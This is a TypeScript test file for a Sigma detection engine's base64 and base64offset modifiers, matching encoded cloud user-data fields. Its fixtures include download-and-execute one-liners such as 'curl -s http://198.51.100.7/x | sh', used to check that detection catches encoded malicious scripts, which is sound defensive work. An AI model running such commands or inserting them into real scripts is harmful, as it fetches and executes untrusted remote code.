import { detectionError, fieldMatcher } from './sigma-helpers';

const b64 = (text: string): string => Buffer.from(text, 'utf8').toString('base64');

describe('the base64 and base64offset modifiers', () => {
  it('base64 matches the encoded value exactly', () => {
    const matches = fieldMatcher('requestParameters.userData|base64', '#!/bin/bash');
    expect(matches({ requestParameters: { userData: b64('#!/bin/bash') } })).toBe(true);
    expect(matches({ requestParameters: { userData: b64('#!/bin/sh') } })).toBe(false);
  });

  it('base64|contains finds the encoded value where it starts the longer text (a length that needs no padding)', () => {
    const matches = fieldMatcher('requestParameters.userData|base64|contains', 'curl -');
    expect(matches({ requestParameters: { userData: b64('curl -s http://198.51.100.7/x | sh') } })).toBe(true);
    expect(matches({ requestParameters: { userData: b64('wget -q http://198.51.100.7/x | sh') } })).toBe(false);
  });

  it('base64offset|contains finds the value at any byte offset of a longer encoded text', () => {
    const matches = fieldMatcher('requestParameters.userData|base64offset|contains', 'http://198.51.100.7');
    for (const prefix of ['curl ', 'curl  ', 'wget -q ']) {
      expect(matches({ requestParameters: { userData: b64(`${prefix}http://198.51.100.7/x | sh`) } })).toBe(true);
    }
    expect(matches({ requestParameters: { userData: b64('curl http://203.0.113.9/x | sh') } })).toBe(false);
  });

  it('base64offset|contains|all needs every value, each at any offset', () => {
    const matches = fieldMatcher('requestParameters.userData|base64offset|contains|all', ['curl', '| sh']);
    expect(matches({ requestParameters: { userData: b64('x curl http://198.51.100.7/x | sh') } })).toBe(true);
    expect(matches({ requestParameters: { userData: b64('x curl http://198.51.100.7/x') } })).toBe(false);
  });

  it('compares encoded text case-sensitively, since base64 is', () => {
    const matches = fieldMatcher('requestParameters.userData|base64', 'bash');
    expect(matches({ requestParameters: { userData: b64('bash').toLowerCase() } })).toBe(false);
  });

  it('refuse wildcards, which cannot be encoded', () => {
    const error = detectionError({ selection: { 'requestParameters.userData|base64': 'bash*' }, condition: 'selection' });
    expect(error.problems[0]).toMatchObject({ kind: 'value', message: expect.stringContaining('cannot encode wildcards') });
  });

  it('require base64offset to be followed by contains', () => {
    const error = detectionError({ selection: { 'requestParameters.userData|base64offset': 'bash' }, condition: 'selection' });
    expect(error.problems[0]).toMatchObject({ kind: 'modifier', message: expect.stringContaining('must be followed by "contains"') });
  });
});
